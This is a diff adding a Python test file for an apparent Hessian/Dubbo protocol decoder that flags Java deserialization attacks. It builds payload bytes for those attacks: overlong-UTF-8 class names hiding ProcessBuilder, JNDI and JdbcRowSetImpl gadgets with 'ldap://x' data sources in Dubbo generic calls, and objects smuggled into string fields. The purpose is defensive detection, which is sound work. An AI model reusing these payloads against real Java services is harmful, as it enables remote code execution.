@@ -1,0 +1,353 @@
+"""What receivers in Java make of bytes that no writer sends: read as they read it, and noted."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests import checks
+from wirelens import codecs
+from wirelens.codecs.node import root_of
+from wirelens.codecs.record import Record
+
+FIELD = Path("../shared/field/bytes")
+DIALECTS = ("hessian1", "hessian2-draft", "hessian2")
+
+
+def field(name: str) -> bytes:
+    """An input of the shared folder."""
+    path = FIELD / name
+    if not path.exists():
+        pytest.skip(f"{path} is not here")
+    return path.read_bytes()
+
+
+def overlong(text: str, size: int = 2) -> bytes:
+    """ASCII with each character in `size` bytes."""
+    return b"".join([overlong_one(letter, size) for letter in text])
+
+
+def overlong_one(letter: str, size: int) -> bytes:
+    code = ord(letter)
+    if size == 2:
+        return bytes([0xC0 | code >> 6, 0x80 | code & 0x3F])
+    return bytes([0xE0, 0x80 | code >> 6, 0x80 | code & 0x3F])
+
+
+def values(record: Record) -> Any:
+    return checks.message(record)["values"]
+
+
+def notes(record: Record) -> list[tuple[str, str]]:
+    return [(note.code, note.text.split(" ")[0]) for note in record.notes]
+
+
+# --- overlong UTF-8 -------------------------------------------------------------------------------------
+
+GADGET = "java.lang.ProcessBuilder"
+
+
+def test_one_letter_in_two_bytes_hides_no_class() -> None:
+    data = field("overlong-one-char.bin")
+    record = checks.one(data, "hessian2")
+    assert values(record)[0]["$class"] == GADGET
+    assert checks.codes(record) == ["overlong-utf8", "gadget-class"]
+    assert codecs.detect(data).protocol == "hessian2"
+
+
+@pytest.mark.parametrize("size", [2, 3])
+def test_names_and_values_in_overlong_letters(size: int) -> None:
+    name = overlong(GADGET, size)
+    key = overlong("a", size)
+    units = len(GADGET)
+    sent = {
+        "hessian2": b"C"
+        + bytes([units])
+        + name
+        + b"\x91\x01"
+        + key
+        + b"\x60\x02"
+        + overlong("hi", size)
+        + b"\x60\x90",
+        "hessian2-draft": b"O"
+        + bytes([0x90 + units])
+        + name
+        + b"\x91\x01"
+        + key
+        + b"o\x90\x02"
+        + overlong("hi", size)
+        + b"o\x90\x90",
+        "hessian1": b"Mt"
+        + units.to_bytes(2, "big")
+        + name
+        + b"S\0\x01"
+        + key
+        + b"S\0\x02"
+        + overlong("hi", size)
+        + b"S\0\x01bNz",
+    }
+    for protocol, data in sent.items():
+        record = checks.one(data, protocol)
+        first = values(record)[0]
+        shown = first.get("$class", first.get("$type"))
+        assert shown == GADGET, protocol
+        assert "hi" in str(first), protocol
+        assert "a" in str(first)
+        assert ("gadget-class", GADGET) in notes(record)
+        assert "overlong-utf8" in checks.codes(record)
+        assert codecs.detect(data).protocol == protocol
+
+
+def test_a_plain_class_and_an_overlong_one_of_the_same_name() -> None:
+    plain = b"C\x05a.Car\x91\x01w\x60\x91"
+    odd = b"C\x05a." + overlong("C") + b"ar\x91\x01w\x61\x92\x60\x93\x61\x94"
+    record = checks.one(plain + odd, "hessian2")
+    assert [item["$class"] for item in values(record)] == ["a.Car"] * 4
+
+
+def test_types_of_the_same_text_in_other_bytes() -> None:
+    odd = b"\x71\x05a.C" + overlong("a") + b"r\x90"
+    record = checks.one(
+        odd + b"\x71\x90\x91" + b"\x71\x05a.Car\x92" + b"\x71\x91\x93" + b"\x71\x90\x94", "hessian2"
+    )
+    assert [item["$type"] for item in values(record)] == ["a.Car"] * 5
+
+
+def test_overlong_letters_in_chunks_and_in_long_texts() -> None:
+    text = overlong("x") * 40
+    for data in (b"S\0\x28" + text, b"R\0\x14" + text[:40] + b"\x14" + text[40:], b"\x30\x28" + text):
+        record = checks.one(data, "hessian2")
+        assert values(record)[0]["$string"] == "x" * 40
+        assert checks.codes(record)[0] == "overlong-utf8"
+
+
+def test_a_text_changed_beside_its_bytes_is_refused() -> None:
+    record = checks.one(b"\x02" + overlong("hi"), "hessian2")
+    message = values(record)
+    message[0]["$string"] = "ho"
+    with pytest.raises(codecs.EncodeError, match=r"delete \$wire"):
+        codecs.encode({"values": message}, "hessian2")
+    del message[0]["$wire"]
+    assert codecs.encode({"values": message}, "hessian2") == b"\x02ho"
+
+
+def test_bytes_that_are_no_text_stay_bytes() -> None:
+    record = checks.one(b"\x02\xc3\x28a", "hessian2")
+    assert "$raw" in values(record)[0]
+    assert checks.codes(record) == ["bad-text"]
+
+
+def test_a_class_whose_name_is_malformed_is_looked_up_as_read() -> None:
+    # readers do not check that a continuation byte is one
+    name = GADGET.encode().replace(b"B", b"\xc1\x02")
+    record = checks.one(b"C" + bytes([len(GADGET)]) + name + b"\x90\x60", "hessian2")
+    assert ("gadget-class", GADGET) in notes(record)
+
+
+def test_a_class_name_in_chunks_is_looked_up() -> None:
+    data = b"CR\0\x05" + GADGET[:5].encode() + bytes([len(GADGET) - 5]) + GADGET[5:].encode() + b"\x90\x60"
+    assert ("gadget-class", GADGET) in notes(checks.one(data, "hessian2"))
+
+
+# --- generic calls --------------------------------------------------------------------------------------
+
+
+def generic_call(arguments: list[Any], attachments: dict[str, Any] | None = None) -> bytes:
+    return codecs.encode(
+        {
+            "body": {
+                "path": "com.example.U",
+                "method": "$invoke",
+                "parameter_types": "Ljava/lang/String;[Ljava/lang/String;[Ljava/lang/Object;",
+                "arguments": arguments,
+                "attachments": attachments or {"generic": "true"},
+            }
+        },
+        "dubbo",
+    )
+
+
+JNDI = "org.apache.xbean.propertyeditor.JndiConverter"
+BEAN = "org.apache.dubbo.common.beanutil.JavaBeanDescriptor"
+STREAM = bytes.fromhex("aced0005") + b"sr" + len(GADGET).to_bytes(2, "big") + GADGET.encode() + bytes(12)
+
+
+def strings(*texts: str) -> dict[str, Any]:
+    return {"$list": list(texts), "$type": "[string"}
+
+
+def objects(*items: Any) -> dict[str, Any]:
+    return {"$list": list(items), "$type": "[object"}
+
+
+@pytest.mark.parametrize(
+    ("generic", "arguments", "name"),
+    [
+        ("true", ["x", strings("java.lang.Object"), objects({"class": JNDI, "asText": "ldap://x"})], JNDI),
+        ("raw.return", ["x", strings("java.lang.Object"), objects([{"a": {"class": JNDI}}])], JNDI),
+        ("true", ["x", strings(GADGET), objects("a")], GADGET),
+        ("bean", ["x", strings("a.B"), objects({"$class": BEAN, "className": JNDI, "type": 7})], JNDI),
+        ("nativejava", ["x", strings("java.lang.Object"), objects({"$bytes": STREAM.hex()})], GADGET),
+        ("gson", ["x", strings("a.B"), objects('{"class": "' + JNDI + '"}')], JNDI),
+        ("fastjson", ["x", strings("a.B"), objects('{"a":{"@type":"L' + GADGET + ';"}}')], GADGET),
+    ],
+)  # fmt: skip
+def test_gadgets_in_generic_calls(generic: str, arguments: list[Any], name: str) -> None:
+    data = generic_call(arguments, {"generic": generic})
+    for _ in range(2):  # what was learned from the first must not hide the second
+        record = checks.one(data, "dubbo")
+        assert ("gadget-class", name) in notes(record)
+
+
+def test_a_generic_gadget_of_the_field() -> None:
+    record = checks.one(field("24-generic-gadget-map.bin"), "dubbo")
+    assert ("gadget-class", "com.sun.rowset.JdbcRowSetImpl") in notes(record)
+
+
+def test_honest_generic_calls_have_no_notes() -> None:
+    data = generic_call(
+        [
+            "x",
+            strings("java.util.Map"),
+            objects({"class": "com.example.Order", "text": "the javax.naming. package"}),
+        ]
+    )
+    assert checks.one(data, "dubbo").notes == []
+
+
+def test_a_bean_descriptor_outside_generic_calls() -> None:
+    data = codecs.encode({"values": [{"$class": BEAN, "className": GADGET, "type": 7}]}, "hessian2")
+    for _ in range(2):
+        assert ("gadget-class", GADGET) in notes(checks.one(data, "hessian2"))
+
+
+def test_a_generic_call_of_hessian_itself() -> None:
+    call = {"call": {"method": "$invoke", "arguments": ["x", strings("a.B"), objects({"class": JNDI})]}}
+    for protocol in DIALECTS:
+        assert ("gadget-class", JNDI) in notes(checks.one(codecs.encode(call, protocol), protocol))
+
+
+# --- objects in the place of strings --------------------------------------------------------------------
+
+ATTACK = b"C\x1dcom.sun.rowset.JdbcRowSetImpl\x91\x0adataSource\x60\x08ldap://x"
+
+
+def test_an_object_in_the_place_of_a_class_name() -> None:
+    data = field("21-c-prefix.bin")
+    assert codecs.detect(data).protocol == "hessian2"
+    (record,) = checks.decoded(data, "hessian2")
+    assert record.error is not None
+    assert record.error.offset == 1
+    assert record.tape is not None
+    assert "Gen$EnumHolder" in [node.type_name for node in root_of(record.tape)["call"]]
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        b"C",
+        b"CC",
+        b"C\x03a.B",
+        b"M",
+        b"V",
+        b"H\x01a",
+        b"Q",
+        b"H\2\0C",
+        b"H\2\0C\x01m",
+        b"O",
+        b"X",
+    ],
+)
+def test_an_object_in_the_place_of_a_string_or_int(before: bytes) -> None:
+    (record,) = checks.decoded(before + ATTACK, "hessian2")
+    assert ("gadget-class", "com.sun.rowset.JdbcRowSetImpl") in notes(record)
+    if not before.startswith(b"H\x01a"):
+        assert record.error is not None
+        assert "misplaced-object" in checks.codes(record)
+
+
+def dubbo_frame(body: bytes, flags: int = 0xC2, status: int = 0) -> bytes:
+    return b"\xda\xbb" + bytes([flags, status]) + (7).to_bytes(8, "big") + len(body).to_bytes(4, "big") + body
+
+
+PARTS = [b"\x052.0.2", b"\x05a.b.C", b"\x050.0.0", b"\x03put", b"\x00", b"HZ"]
+
+
+@pytest.mark.parametrize("place", range(5))
+@pytest.mark.parametrize("prefix", [b"", b"C"])
+def test_an_object_in_the_place_of_a_string_of_dubbo(place: int, prefix: bytes) -> None:
+    parts = list(PARTS)
+    parts[place] = prefix + ATTACK
+    record = checks.one(dubbo_frame(b"".join(parts)), "dubbo")
+    assert ("gadget-class", "com.sun.rowset.JdbcRowSetImpl") in notes(record)
+    assert "misplaced-object" in checks.codes(record)
+    assert record.damaged
+    assert "None" not in record.summary
+    if not prefix and place < 3:
+        assert record.root is not None
+        partial = record.root["body"]["partial"]
+        assert partial.text_of("method") == "put"
+        if place == 1:
+            assert "<com.sun.rowset.JdbcRowSetImpl>.put" in record.summary
+
+
+@pytest.mark.parametrize(
+    "frame", [dubbo_frame(ATTACK, 0xE2), dubbo_frame(b"\x90" + ATTACK, 2, 20), dubbo_frame(ATTACK, 2, 70)]
+)
+def test_an_object_as_event_and_exception_of_dubbo(frame: bytes) -> None:
+    record = checks.one(frame, "dubbo")
+    assert ("gadget-class", "com.sun.rowset.JdbcRowSetImpl") in notes(record)
+    assert "com.sun.rowset.JdbcRowSetImpl" in record.summary
+
+
+def test_the_summary_names_the_value_of_an_event() -> None:
+    record = checks.one(field("25b-event-object.bin"), "dubbo")
+    assert record.summary == "dubbo event req #1 com.rometools.rome.feed.impl.ToStringBean"
+    assert checks.one(dubbo_frame(b"HZ", 0xA2), "dubbo").summary == "dubbo event req #7 map[0]"
+
+
+# --- Dubbo's serializations -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("number", [0, 1, 5, 13, 18, 24, 27, 28, 30, 31])
+def test_no_id_of_a_serialization_speaks_against_dubbo(number: int) -> None:
+    body = b"\xa5hello"
+    for frame in (
+        dubbo_frame(body, 0xC0 | number),
+        dubbo_frame(body, number, 20),
+        dubbo_frame(b"\xc0", 0xE0 | number),
+    ):
+        assert codecs.detect(frame).protocol == "dubbo"
+        assert codecs.detect(frame * 2).protocol == "dubbo"
+
+
+def test_serializations_of_dubbo_3_have_names() -> None:
+    named = {1: "dubbo", 5: "json", 18: "jackson", 27: "msgpack", 28: "fury", 31: "custom-messagepack"}
+    for number, name in named.items():
+        assert (
+            checks.message(checks.one(dubbo_frame(b"\xc0", 0xC0 | number), "dubbo"))["serialization"] == name
+        )
+
+
+# --- of readings with one meaning, the plainest ---------------------------------------------------------
+
+
+def test_values_of_hessian_1_are_named_so() -> None:
+    detection = codecs.detect(field("h1-enum.bin"))
+    assert (detection.protocol, detection.equal) == ("hessian1", ("hessian2-draft",))
+    assert detection.candidates[0].protocol == "hessian1"
+    (record,) = codecs.decode(field("h1-enum.bin"))
+    assert values(record) == [{"$type": "com.x.E", "$map": {"name": "A"}}]
+
+
+def test_vectors_of_hessian_1_need_no_forms(shared: Path) -> None:
+    for path in ("hessian1.jsonl", "hessian1-sofa352.jsonl"):
+        lines = (shared / "vectors" / path).read_text().splitlines()
+        for data in [bytes.fromhex(json.loads(line)["hex"]) for line in lines if '"hex"' in line]:
+            detection = codecs.detect(data)
+            if "hessian1" in (detection.protocol, *detection.equal) and detection.protocol != "hessian1":
+                forms = [
+                    codecs.registry.get(name).unusual_forms(data) for name in (detection.protocol, "hessian1")
+                ]
+                assert forms[0] <= forms[1]
